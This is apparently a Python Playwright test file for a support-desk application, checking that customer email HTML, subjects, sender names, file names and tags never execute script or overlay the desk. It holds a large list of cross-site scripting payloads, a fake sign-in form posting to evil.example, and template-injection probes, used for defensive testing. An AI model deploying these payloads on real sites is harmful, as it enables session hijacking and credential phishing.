"""Cases 11 to 13 in a real browser: whatever a customer's mail holds, nothing of it runs or covers the desk."""

import json
from email.message import EmailMessage
from email.utils import formataddr

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.e2e.conftest import SUPPORT, Desk, Windows
from tests.e2e.mailing import mail, send, ticket_with

pytestmark = pytest.mark.once

HIT = "top.hit=1;self.hit=1;alert(1)"
SCRIPTS = [
    f"<script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<<script>script>{HIT}<</script>/script>",
    f"<SCRIPT/X SRC=data:,{HIT}></SCRIPT>",
    f"<img src=x onerror='{HIT}'>",
    f"<img src=x OnErRoR={HIT}>",
    f"<img/src=x/onerror={HIT}>",
    f'<img src="x" onerror\n=\n"{HIT}">',
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={HIT}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{HIT}'>x</math>",
    f"<a href='javascript:{HIT}' class=click>押す</a>",
    f"<a href=' &#106;avascript:{HIT}' class=click>押す</a>",
    f"<a href='java\tscript:{HIT}' class=click>押す</a>",
    f"<a href='data:text/html,<script>{HIT}</script>' class=click>押す</a>",
    f"<a href='vbscript:{HIT}'>x</a>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f'<iframe srcdoc="<script>{HIT}</script>"></iframe>',
    f"<object data='data:text/html,<script>{HIT}</script>'></object>",
    f"<embed src='data:image/svg+xml,<svg onload={HIT}>'>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}></select>",
    f"<textarea autofocus onfocus={HIT}></textarea>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<isindex type=image src=1 onerror={HIT}>",
    f"<form><button formaction='javascript:{HIT}'>x</button></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='data:text/css,*{color:red}'>",
    f"<div style='background:url(javascript:{HIT})'>x</div>",
    f"<div style='width:expression({HIT})'>x</div>",
    f"<style>@import 'data:text/css,*{{display:none}}';</style><style></style><img src=x onerror={HIT}>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<template><script>{HIT}</script></template>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[<img src=x onerror={HIT}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={HIT}>",
    f"<title><img title='</title><img src=x onerror={HIT}>'></title>",
    f"<p title='\"><img src=x onerror={HIT}>'>x</p>",
]
COVER = (
    "<form action='https://evil.example/steal' method=post><p>パスワードを入力してください</p>"
    "<input name=password type=password><button>サインイン</button></form>"
    "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>もう一度サインイン</div>"
    "<div style='position:sticky;top:0'>x</div><div style='position:absolute;top:-900px;left:-900px;width:9999px;"
    "height:9999px'><a href='https://evil.example/'>x</a></div>"
)
FORBIDDEN = (
    "body :is(script, svg, math, iframe, object, embed, base, meta, link, form, input, button, select, textarea)"
)
OUT_OF_PLACE = """() => [...document.querySelectorAll('*')]
  .filter((one) => ['fixed', 'sticky', 'absolute'].includes(getComputedStyle(one).position)).length"""
HANDLERS = """() => [...document.querySelectorAll('*')].flatMap((one) => [...one.attributes])
  .filter((one) => /^on/i.test(one.name) || /^\\s*(javascript|vbscript|data:text|data:image.svg):?/i.test(one.value))
  .map((one) => one.name + '=' + one.value)"""


def html_mail(subject: str, html: str, *, sender: str = "", name: str = "") -> EmailMessage:
    message = mail(subject, "HTML をご覧ください。", to=SUPPORT, **({"sender": sender} if sender else {}))
    message.add_alternative(f"<html><body><p>届いた本文</p>{html}</body></html>", subtype="html")
    if name:
        message.add_attachment(b"\x89PNG\r\n\x1a\n", maintype="image", subtype="png", filename=name)
    return message


def shown(page: Page) -> Frame:
    """The frame in which the last message is shown as it was sent."""
    page.locator("[data-html]").last.click()
    frame = page.locator("iframe.html-frame").element_handle().content_frame()
    assert frame is not None
    frame.wait_for_selector("text=届いた本文")
    return frame


def test_case_11_nothing_in_the_html_of_a_mail_runs(desk: Desk, windows: Windows) -> None:
    send(desk, html_mail("動かない本文", "\n".join(f"<div class=one>{one}</div>" for one in SCRIPTS)))
    windows.expected = ("net::ERR", "Failed to load resource", "Not allowed to load", "Blocked")
    page = windows.of("hana", f"/tickets/{ticket_with(desk, '動かない本文')}")
    asked: list[str] = []
    page.on("dialog", lambda dialog: (asked.append(dialog.message), dialog.dismiss())[0])
    frame = shown(page)
    assert frame.evaluate(HANDLERS) == []
    assert frame.locator(FORBIDDEN).count() == 0
    for link in frame.locator("a").all():
        assert (link.get_attribute("href") or "https:").startswith(("https:", "http:", "mailto:", "tel:"))
    number = page.locator("[data-html]").last.get_attribute("data-html")
    alone = windows.of("hana", f"/messages/{number}/html?images=1")
    assert alone.evaluate("window.hit") is None
    assert page.evaluate("window.hit") is None
    assert asked == []


def test_case_12_no_form_and_no_cover_from_a_mail_reaches_the_desk(desk: Desk, windows: Windows) -> None:
    send(desk, html_mail("偽のサインイン", COVER))
    page = windows.of("hana", f"/tickets/{ticket_with(desk, '偽のサインイン')}")
    frame = shown(page)
    assert frame.locator(FORBIDDEN).count() == 0
    assert frame.evaluate(OUT_OF_PLACE) == 0
    box = page.locator("iframe.html-frame").bounding_box()
    desk_box = page.locator("#ticket-pane").bounding_box()
    assert box is not None
    assert desk_box is not None
    assert desk_box["x"] <= box["x"]
    assert box["width"] <= desk_box["width"]
    page.keyboard.press("r")
    expect(page.locator("reply-composer")).to_be_visible()


def test_case_13_names_of_people_files_and_things_are_only_ever_words(desk: Desk, windows: Windows) -> None:
    bait = f'"><svg onload={HIT}><img src=x onerror={HIT}>'
    subject = f"名前の罠 </title></script>{bait}'`${{7*7}}{{{{7*7}}}}"
    sender = formataddr((f"罠 {bait}", "trap@evil.example"))
    send(desk, html_mail(subject, "<p>x</p>", sender=sender, name=f"{bait}.png"))
    number = ticket_with(desk, subject)
    page = windows.of("hana", f"/tickets/{number}")
    expect(page.locator(".head-1 h2")).to_contain_text("<svg onload=")
    expect(page.locator(".message .files").last).to_contain_text("<svg onload=")
    assert page.evaluate(HANDLERS) == []
    tag = f"x{bait}"
    page.evaluate(
        """async ([number, tag]) => {
          const cookie = document.cookie.match(/csrftoken=([^;]+)/)?.[1];
          const token = cookie ?? document.querySelector('meta[name=csrf]').content;
          const body = new URLSearchParams({ tags: tag });
          const answer = await fetch(`/tickets/${number}/tags`, {
            method: 'POST', body, headers: { 'X-CSRFToken': token },
          });
          if (!answer.ok) throw new Error(`tag: ${answer.status}`);
        }""",
        [number, tag],
    )
    for path in (
        f"/tickets/{number}",
        f"/tickets/{number}/activity",
        f"/tickets/{number}/merges",
        f"/tickets/{number}/panel",
        "/desk",
        f"/desk?q={json.dumps(bait)}",
        "/request/none%22%3E%3Csvg%20onload=alert(1)%3E",
        f"/desk/search?q={bait}",
    ):
        windows.expected = ("404 (Not Found)", "Failed to load resource")
        page.goto(f"{desk.site.url}{path}")
        assert page.evaluate("window.hit") is None
        assert [one for one in page.evaluate(HANDLERS) if "hit" in one] == []
        assert page.locator("svg[onload]").count() == 0
